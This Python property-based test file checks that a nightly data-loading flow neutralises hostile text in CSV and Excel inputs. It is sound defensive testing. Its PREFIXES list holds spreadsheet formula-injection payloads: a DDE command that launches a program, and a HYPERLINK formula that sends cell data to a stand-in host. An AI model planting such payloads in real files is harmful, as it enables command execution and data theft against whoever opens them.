"""Issue 18, property-based: any text a department writes — any Unicode, control characters, formula
prefixes — in names, villages, file names and sheet names of a small inbox. The night's steps (the
flow's tasks, called directly: Prefect adds nothing here) must complete, every row read must be loaded
or quarantined, and no output a person opens may start a formula or carry a control character."""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import tempfile
from pathlib import Path

import openpyxl
from hostile_corpus import XHEADER, good_rows, payment_csv, sheet_rows, xlsx
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from flows import nightly
from flows.parameters import RunParameters
from rules import catalog

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://x\"&A1,\"点\")", "=cmd|' /C calc'!A0", "_x000B_"]

# any character but the surrogates; control characters and formula prefixes drawn often
anything = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=8)
hostile = st.one_of(anything,
                    st.tuples(st.sampled_from(PREFIXES), anything).map("".join),
                    st.tuples(anything, st.sampled_from(["\x00", "\x1b", "\x1f", "\x01", "\x7f"]), anything).map("".join))
# a file name: no "/" and no NUL (the file system's own two rules), at most 60 characters
file_names = hostile.map(lambda s: s.replace("/", "／").replace("\x00", "")[:60]).filter(lambda s: s.strip(". "))
# XML 1.0 cannot hold most C0 characters at all: in a sheet name they come as Excel's _xHHHH_ escapes
sheet_names = hostile.map(lambda s: "".join(c if c >= " " or c in "\t\n" else f"_x{ord(c):04X}_" for c in s)[:31])


def xml_text(s: str) -> str:
    return "".join(c if c >= " " or c in "\t\n\r" else f"_x{ord(c):04X}_" for c in s)


def run_night(inbox: Path, out: Path, wh: Path) -> dict:
    run = nightly.start_run.fn("prop", RunParameters(inbox, out, dt.date(2021, 1, 15), None, catalog.Scope(), wh,
                                                     None, False, 0))
    try:
        nightly.load_sources.fn(run)
        nightly.validate_sources.fn(run)
        nightly.run_rules.fn(run)
        nightly.remember_cases.fn(run)
        return nightly.write_outputs.fn(run)
    finally:
        run.con.close()


@given(names=st.lists(hostile, min_size=3, max_size=3), villages=st.lists(hostile, min_size=3, max_size=3),
       file_name=file_names, sheet_name=sheet_names)
# derandomised (the same examples on every CI run) and not shrunk: one night per example is too dear to shrink
@settings(max_examples=6, deadline=None, derandomize=True, phases=[Phase.explicit, Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_any_text_in_names_and_places_completes_and_reaches_no_reader_as_a_formula(names, villages, file_name,
                                                                                  sheet_name):
    tmp = Path(tempfile.mkdtemp(prefix="qf_prop_"))
    try:
        inbox = tmp / "inbox"
        inbox.mkdir()
        (inbox / (file_name + ".csv")).write_text(
            payment_csv(good_rows(3, 1, name=[n.replace(",", "，").replace("\n", " ").replace('"', "“") for n in names],
                                  village=[v.replace(",", "，").replace("\n", " ").replace('"', "“") for v in villages])),
            encoding="utf-8")
        xlsx(inbox / (file_name[:20] + "_名单.xlsx"),
             [(xml_text(sheet_name).replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") or "Sheet1",
               sheet_rows([XHEADER] + good_rows(3, 10, name=[xml_text(n) for n in names],
                                                village=[xml_text(v) for v in villages])))])
        info = run_night(inbox, tmp / "out", tmp / "w.duckdb")
        for f in info["files"]:
            if f["status"] == "loaded":
                assert f["reconciles"], f
        for path in (tmp / "out").rglob("*.csv"):
            with open(path, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh):
                    for v in row:
                        assert not CONTROL.search(v), (path.name, v)
                        assert not (v[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.match(v)), (path.name, v)
        books = list((tmp / "out").rglob("*.xlsx"))
        assert books
        for path in books:
            for ws in openpyxl.load_workbook(path).worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
